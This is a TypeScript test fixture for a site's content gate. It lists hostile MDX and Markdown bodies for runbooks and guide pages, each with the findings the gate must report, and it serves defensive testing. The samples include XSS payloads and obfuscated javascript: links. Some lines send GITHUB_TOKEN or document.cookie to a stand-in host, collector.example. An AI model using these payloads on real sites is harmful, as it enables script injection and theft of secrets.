/**
 * Hostile content: bodies an attacker (or a careless paste) brings to a runbook, comms template,
 * tabletop record, guide page or draft, each with the exact findings the gate must give. Every
 * case is a whole file at its own path, so the whole corpus is one tree: one CLI run and one
 * refused build judge all of it. Lines in `expect` are relative to the body (line 1 is the first
 * line after the frontmatter); the test adds the frontmatter's length.
 */

export interface HostileCase {
	readonly name: string;
	/** Path under `content/`. */
	readonly path: string;
	readonly body: string;
	/** Extra frontmatter lines (docs pages), before the closing `---`. */
	readonly frontmatter?: string;
	/** `line:col  rule  message fix`, line relative to the body (frontmatter lines: negative or zero). */
	readonly expect: readonly string[];
	/** A string that must appear nowhere in a built site (only for refused content: nothing is built). */
	readonly payload: string;
}

const LINK_FIX = 'Link to an https:// page instead; if the text is an example, put it in a code span.';
const EXPR_FIX =
	'Write the text itself; a literal brace in prose is written "\\{", and code examples go in a code span or block.';
const ESM_FIX = 'Remove it: content is data. Aside, Steps, Tabs, TabItem are available without an import.';
const ELEMENT_FIX = 'Remove the element; write the text in Markdown, or put an example in a code block.';
const HANDLER_FIX = 'Remove the attribute; content cannot carry script.';
const RAW_FIX = 'Write it in Markdown ([text](https://…), ![alt](https://…)); put an example in a code span or block.';
const scheme = (what: string, s: string) =>
	`unsafe-link  ${what} uses a ${s}: URL, which would run or open something other than a web page. ${LINK_FIX}`;

const RB = 'runbooks/payments';

export const HOSTILE: readonly HostileCase[] = [
	// MDX code execution at build time.
	{
		name: 'export of the token, then {t}',
		path: `${RB}/token-export.mdx`,
		body: 'export const t = process.env.GITHUB_TOKEN\n\n## Summary\n\nThe token is {t}.\n',
		expect: [
			`1:1  content-not-data  "export const t = process.env.GITHUB_TOKEN" is an import/export statement: code run when the site is built. ${ESM_FIX}`,
			`5:14  content-not-data  the expression {t} is code, run when the site is built. ${EXPR_FIX}`,
		],
		payload: 'process.env.GITHUB_TOKEN',
	},
	{
		name: 'import of node:fs to read a secret file',
		path: `${RB}/import-fs.mdx`,
		body: "## Summary\n\nimport { readFileSync } from 'node:fs'\n\nText.\n",
		expect: [
			`3:1  content-not-data  "import { readFileSync } from 'node:fs'" is an import/export statement: code run when the site is built. ${ESM_FIX}`,
		],
		payload: 'readFileSync',
	},
	{
		name: 'await fetch sending the environment out (flow expression)',
		path: `${RB}/await-fetch.mdx`,
		body: "## Summary\n\n{await fetch('https://collector.example/?t=' + process.env.GITHUB_TOKEN)}\n",
		expect: [
			`3:1  content-not-data  the expression {await fetch('https://collector.example/?t=' + process.env.G…} is code, run when the site is built. ${EXPR_FIX}`,
		],
		payload: 'collector.example',
	},
	{
		name: 'an expression in a list item and a table cell',
		path: `${RB}/expression-in-list.mdx`,
		body: '## Rollback\n\n1. Run {JSON.stringify(process.env)}\n\n| a | b |\n| - | - |\n| {globalThis.x} | y |\n',
		expect: [
			`3:8  content-not-data  the expression {JSON.stringify(process.env)} is code, run when the site is built. ${EXPR_FIX}`,
			`7:3  content-not-data  the expression {globalThis.x} is code, run when the site is built. ${EXPR_FIX}`,
		],
		payload: 'JSON.stringify(process.env)',
	},
	{
		name: 'an expression attribute',
		path: `${RB}/expression-attribute.mdx`,
		body: '## Summary\n\nSee <a href={process.env.SECRET_URL}>the console</a>.\n',
		expect: [
			'3:8  content-not-data  the attribute href={…} on <a> is an expression, code run when the site is built. Write the value as text: href="…".',
		],
		payload: 'SECRET_URL',
	},
	{
		name: 'a spread attribute on an allowed component',
		path: `${RB}/spread-attribute.mdx`,
		body: '## Summary\n\n<Aside {...globalThis.props}>Careful.</Aside>\n',
		expect: [
			'3:8  content-not-data  the spread attribute {...globalThis.props} on <Aside> is code, run when the site is built. Write each attribute as name="text".',
		],
		payload: 'globalThis.props',
	},
	{
		name: 'a component nobody provides',
		path: `${RB}/unknown-component.mdx`,
		body: '## Summary\n\n<SecretDump />\n',
		expect: [
			'3:1  content-not-data  the component <SecretDump> is not one this page provides (Aside, Steps, Tabs, TabItem). Use one of Aside, Steps, Tabs, TabItem without importing it, or plain Markdown.',
		],
		payload: 'SecretDump',
	},
	{
		name: 'a component on a guide page (Starlight renders docs with none)',
		path: 'docs/guides/hostile-component.mdx',
		body: 'Intro.\n\n<Aside>Hi</Aside>\n',
		expect: [
			'3:1  content-not-data  the component <Aside> is not available here: docs pages are rendered by Starlight with no components. Use plain Markdown, or a ":::note" aside.',
		],
		payload: 'hostile-component',
	},
	// Script, style and embedded documents, as JSX and as raw HTML.
	{
		name: '<script> as JSX',
		path: `${RB}/script-jsx.mdx`,
		body: '## Summary\n\n<script>alert(document.domain)</script>\n',
		expect: [
			`3:1  content-not-data  the element <script> runs script in every reader’s browser; content cannot carry it. ${ELEMENT_FIX}`,
		],
		payload: 'alert(document.domain)',
	},
	{
		name: '<style> hiding the page',
		path: 'comms/_drafts/style-hide.mdx',
		body: 'Send this.\n\n<style>main \\{ display: none \\}</style>\n',
		expect: [
			`3:1  content-not-data  the element <style> restyles the whole page and can hide or fake content; content cannot carry it. ${ELEMENT_FIX}`,
		],
		payload: 'display: none',
	},
	{
		name: '<iframe> embedding another site',
		path: 'tabletops/_drafts/iframe.mdx',
		body: 'Notes.\n\n<iframe src="https://collector.example/frame" />\n',
		expect: [
			`3:1  content-not-data  the element <iframe> embeds another document in the page; content cannot carry it. ${ELEMENT_FIX}`,
		],
		payload: 'collector.example/frame',
	},
	{
		name: '<object> and <embed>',
		path: `${RB}/object-embed.mdx`,
		body: '## Summary\n\n<object data="https://collector.example/x.swf" />\n\n<embed src="https://collector.example/y.swf" />\n',
		expect: [
			`3:1  content-not-data  the element <object> embeds a plugin or another document in the page; content cannot carry it. ${ELEMENT_FIX}`,
			`5:1  content-not-data  the element <embed> embeds a plugin or another document in the page; content cannot carry it. ${ELEMENT_FIX}`,
		],
		payload: 'x.swf',
	},
	{
		name: '<svg onload> as JSX',
		path: `${RB}/svg-onload.mdx`,
		body: '## Summary\n\n<svg onload="alert(1)" />\n',
		expect: [
			`3:1  content-not-data  the element <svg> can carry script and event handlers; content cannot carry it. ${ELEMENT_FIX}`,
		],
		payload: 'onload',
	},
	{
		name: 'raw <script> in a Markdown (.md) page',
		path: 'docs/guides/raw-script.md',
		body: 'Intro.\n\n<script>fetch("https://collector.example/?c=" + document.cookie)</script>\n',
		expect: [
			`3:1  content-not-data  the raw HTML element <script> runs script in every reader’s browser; content cannot carry it. ${RAW_FIX}`,
		],
		payload: 'document.cookie',
	},
	{
		name: 'raw <img onerror> in a Markdown runbook',
		path: `${RB}/raw-img.md`,
		body: '## Summary\n\nLook <img src=x onerror=alert(1)> here.\n',
		expect: [
			`3:6  content-not-data  the raw HTML "<img src=x onerror=alert(1)>" carries an event handler: it runs script in the reader’s browser. ${RAW_FIX}`,
			// A runbook is outlined as MDX whatever its extension, so the loader refuses the same tag as MDX too.
			'3:15  content-mdx  Unexpected character `x` (U+0078) before attribute value, expected a character that can start an attribute value, such as `"`, `\'`, or `{`. Correct the MDX at this position; a literal "{" or "<" in prose must be escaped as "\\{" or "&lt;".',
		],
		payload: 'onerror',
	},
	{
		name: 'raw <a href="javascript:"> in a Markdown page',
		path: 'docs/guides/raw-link.md',
		body: 'Go <a href="javascript:alert(1)">here</a>.\n',
		expect: [
			`1:4  content-not-data  the raw HTML "<a href="javascript:alert(1)">" is not allowed: only plain tags without attributes, such as <kbd> or <br>, are. ${RAW_FIX}`,
		],
		payload: 'javascript:alert',
	},
	// Event handlers and embedded documents on allowed elements.
	{
		name: '<details ontoggle> (fires without a click)',
		path: `${RB}/details-ontoggle.mdx`,
		body: '## Summary\n\n<details ontoggle="alert(1)" open>\n\nMore.\n\n</details>\n',
		expect: [
			`3:10  content-not-data  the attribute ontoggle on <details> is an event handler: it runs script in the reader’s browser. ${HANDLER_FIX}`,
		],
		payload: 'ontoggle',
	},
	{
		name: 'a case-mixed onError handler on an image',
		path: `${RB}/img-onerror.mdx`,
		body: '## Summary\n\n<img src="https://dashboards.example/p.png" alt="p99" OnError="alert(1)" />\n',
		expect: [
			`3:55  content-not-data  the attribute OnError on <img> is an event handler: it runs script in the reader’s browser. ${HANDLER_FIX}`,
		],
		payload: 'OnError',
	},
	{
		name: 'srcdoc on an element',
		path: `${RB}/srcdoc.mdx`,
		body: '## Summary\n\n<div srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">x</div>\n',
		expect: [
			'3:6  content-not-data  the attribute srcdoc on <div> embeds a whole HTML document, script included. Remove the attribute; link to the page instead.',
		],
		payload: 'srcdoc',
	},
	{
		name: 'a style attribute overlaying the page',
		path: `${RB}/style-attribute.mdx`,
		body: '## Summary\n\n<div style="position:fixed;inset:0">Pay here</div>\n',
		expect: [
			'3:6  content-not-data  the attribute style is not allowed on <div>. Remove it; <div> may carry id, class, className, title, lang, dir, role, aria-*.',
		],
		payload: 'position:fixed',
	},
	// javascript:, vbscript: and data: URLs however they are spelled.
	{
		name: 'a plain javascript: link',
		path: `${RB}/js-link.mdx`,
		body: '## Summary\n\nSee [the dashboard](javascript:alert(1)).\n',
		expect: [`3:5  ${scheme('a link', 'javascript')}`],
		payload: 'javascript:alert',
	},
	{
		name: 'a case-mixed JaVaScRiPt: link',
		path: `${RB}/js-case.mdx`,
		body: '## Summary\n\n[x](JaVaScRiPt:alert(1))\n',
		expect: [`3:1  ${scheme('a link', 'javascript')}`],
		payload: 'JaVaScRiPt',
	},
	{
		name: 'an entity-encoded j (&#106;)',
		path: `${RB}/js-entity.mdx`,
		body: '## Summary\n\n[x](&#106;avascript:alert(1))\n',
		expect: [`3:1  ${scheme('a link', 'javascript')}`],
		payload: '&#106;avascript',
	},
	{
		name: 'a tab hidden in the scheme (&#x09;)',
		path: `${RB}/js-tab.mdx`,
		body: '## Summary\n\n[x](jav&#x09;ascript:alert(1))\n',
		expect: [`3:1  ${scheme('a link', 'javascript')}`],
		payload: 'jav&#x09;ascript',
	},
	{
		name: 'a definition on the next line, with &NewLine; and &colon;',
		path: `${RB}/js-definition.mdx`,
		body: '## Summary\n\nSee [the runbook][rb].\n\n[rb]:\n  java&NewLine;script&colon;alert(1)\n',
		expect: [`5:1  ${scheme('the link definition [rb]', 'javascript')}`],
		payload: 'java&NewLine;script',
	},
	{
		name: 'an href split across lines',
		path: `${RB}/js-split.mdx`,
		body: '## Summary\n\n<a href="java\nscript:alert(1)">here</a>\n',
		expect: [`3:4  ${scheme('the href attribute of <a>', 'javascript')}`],
		payload: 'script:alert(1)',
	},
	{
		name: 'an href with a leading entity space and a vertical tab',
		path: `${RB}/js-space.mdx`,
		body: '## Summary\n\n<a href="&#x20;&#x0B;javascript:alert(1)">here</a>\n',
		expect: [`3:4  ${scheme('the href attribute of <a>', 'javascript')}`],
		payload: '&#x0B;javascript',
	},
	{
		name: 'a vbscript: link',
		path: `${RB}/vbscript.mdx`,
		body: '## Summary\n\n[x](vbscript:msgbox(1))\n',
		expect: [`3:1  ${scheme('a link', 'vbscript')}`],
		payload: 'vbscript:msgbox',
	},
	{
		name: 'a data: SVG image',
		path: `${RB}/data-image.mdx`,
		body: '## Summary\n\n![graph](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)\n',
		expect: [`3:1  ${scheme('an image', 'data')}`],
		payload: 'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk',
	},
	{
		name: 'a data: URL in an img src attribute',
		path: 'tabletops/_drafts/data-src.mdx',
		body: 'Notes.\n\n<img src="DATA:text/html,&lt;script&gt;alert(1)&lt;/script&gt;" alt="x" />\n',
		expect: [`3:6  ${scheme('the src attribute of <img>', 'data')}`],
		payload: 'DATA:text/html',
	},
	{
		name: 'an aside directive carrying an onclick attribute (Markdown page)',
		path: 'docs/guides/directive-onclick.md',
		body: 'Intro.\n\n:::note{onclick="alert(1)"}\nCareful.\n:::\n',
		expect: [
			'3:1  content-not-data  the directive ":note" carries the attribute onclick, which content cannot set. Write the aside as ":::note[Title]" with no attributes other than #id and .class.',
		],
		payload: 'directive-onclick',
	},
	{
		name: 'a draft whose MDX does not parse (judged fail-closed, not skipped)',
		path: 'runbooks/_drafts/broken.mdx',
		body: 'Draft.\n\n<details ontoggle="alert(1)">\n',
		expect: [
			'1:1  content-mdx  Expected a closing tag for `<details>` (6:1-6:30). Correct the MDX at this position; a literal "{" or "<" in prose must be escaped as "\\{" or "&lt;".',
		],
		payload: 'broken',
	},
	// Guide pages: frontmatter Starlight renders as HTML or into <head>.
	{
		name: 'a guide page adding a script to <head>',
		path: 'docs/guides/head-script.mdx',
		frontmatter: 'head:\n  - tag: script\n    content: alert(1)',
		body: 'Intro.\n',
		expect: [
			'-3:1  content-not-data  the frontmatter field head adds tags, scripts included, to the page’s <head>. Remove it: the site sets the page head.',
		],
		payload: 'head-script',
	},
	{
		name: 'a guide hero tagline carrying markup, and a javascript: hero action',
		path: 'docs/guides/hero-markup.mdx',
		frontmatter:
			'template: splash\nhero:\n  tagline: <img src=x onerror=alert(1)>\n  actions:\n    - text: Go\n      link: " javascript:alert(1)"',
		body: 'Intro.\n',
		expect: [
			'-4:3  content-not-data  hero.tagline is rendered as HTML by Starlight, and this one holds markup. Write hero.tagline as plain text, without <, > or &.',
			`-1:7  ${scheme('hero.actions[0].link', 'javascript')}`,
		],
		payload: 'hero-markup',
	},
];

/** Bodies that look odd but are data: the gate gives them no content-not-data or unsafe-link finding. */
export const HARMLESS: readonly { readonly name: string; readonly path: string; readonly body: string }[] = [
	{
		name: 'allowed elements, components, comments, https links and code examples',
		path: `${RB}/harmless.mdx`,
		body: [
			'## Summary',
			'',
			'{/* Reviewer note: keep this short. */}',
			'',
			'Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, see [the console](https://console.cloud.google.com/run) or mail <a href="mailto:payments-team@example.com">the team</a>.',
			'',
			'<Aside type="caution" title="Before you start">Check the error budget.</Aside>',
			'',
			':::caution[Check the region first]',
			'Fail over only when the second region is healthy.',
			':::',
			'',
			'<details>',
			'<summary>Why</summary>',
			'',
			'Because the ledger lags.',
			'',
			'</details>',
			'',
			'Never paste `[x](javascript:alert(1))` or `<script>`:',
			'',
			'```html',
			'<script>alert(1)</script>',
			'<a href="javascript:alert(1)">x</a>',
			'```',
			'',
		].join('\n'),
	},
];
